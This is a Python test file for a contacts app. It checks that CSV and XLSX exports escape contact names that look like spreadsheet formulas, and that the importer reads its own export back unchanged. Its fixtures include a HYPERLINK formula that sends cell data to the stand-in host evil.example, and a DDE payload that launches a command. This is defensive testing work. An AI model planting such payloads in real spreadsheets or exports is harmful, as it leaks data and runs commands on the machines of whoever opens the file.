"""Exports cannot run formulas (issue #16, item 8): a contact named like a spreadsheet formula comes
out of the CSV and XLSX exports as text, numbers stay numbers, and the CSV import reads our own
export back unchanged."""

from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open invoice")'
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
DDE = "-2+3+cmd|' /C calc'!A0"


async def test_contacts_named_like_formulas_export_inert_in_csv_and_xlsx(hub):
    admin = await hub.client("admin")
    await admin.ok("POST", "/api/custom-fields", {"key": "refund", "label": "Refund", "type": "number"},
                   status=201)
    for name, refund, account in [(HYPERLINK, -12.5, "-GC-1"), ("@SUM(1)", 30, "+86 138 0000 0000"),
                                   (DDE, 0, "'=already quoted"), ("Plain Person", -7, "-42")]:
        await admin.ok("POST", "/api/contacts", {"name": name, "custom": {"refund": refund,
                                                                          "account_no": account}},
                       status=201)

    r = await admin.get("/api/contacts/export")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    by_refund = {row["custom.refund"]: row for row in rows.values() if row["custom.refund"]}
    assert by_refund["-12.5"]["name"] == "'" + HYPERLINK
    assert by_refund["30"]["name"] == "'@SUM(1)"
    assert by_refund["0"]["name"] == "'" + DDE
    assert by_refund["-7"]["name"] == "Plain Person"
    # text that would be a formula is escaped; a number (even in a text field) is left alone
    assert by_refund["-12.5"]["custom.account_no"] == "'-GC-1"
    assert by_refund["30"]["custom.account_no"] == "'+86 138 0000 0000"
    assert by_refund["0"]["custom.account_no"] == "''=already quoted"
    assert by_refund["-7"]["custom.account_no"] == "-42"
    for row in rows.values():  # every cell that starts like a formula is a plain number
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r") or NUMBER.fullmatch(value), row

    r = await admin.get("/api/contacts/export?format=xlsx")
    assert r.status_code == 200 and r.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    name_col, refund_col = header.index("name"), header.index("custom.refund")
    cells = {row[name_col].value: row for row in ws.iter_rows(min_row=2)}
    for name in (HYPERLINK, "@SUM(1)", DDE):
        cell = cells[name][name_col]
        assert cell.data_type == "s" and cell.quotePrefix, (name, cell.data_type)
    for name, refund in [(HYPERLINK, -12.5), ("@SUM(1)", 30), ("Plain Person", -7)]:
        cell = cells[name][refund_col]
        assert cell.value == refund and cell.data_type == "n"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)

    # our CSV import reads our export back as it was: no new contact, no quote added to a name
    before = {c["name"] for c in (await admin.ok("GET", "/api/contacts?limit=500"))["items"]}
    export = (await admin.get("/api/contacts/export")).text
    r = await admin.http.post("/api/contacts/import", files={"file": ("c.csv", export.encode(), "text/csv")})
    assert r.status_code == 200 and r.json()["created"] == 0 and not r.json()["errors"], export + r.text
    items = (await admin.ok("GET", "/api/contacts?limit=500"))["items"]
    assert {c["name"] for c in items} == before
    quoted = next(c for c in items if c["name"] == DDE)
    assert quoted["custom"] == {"refund": 0, "account_no": "'=already quoted"}
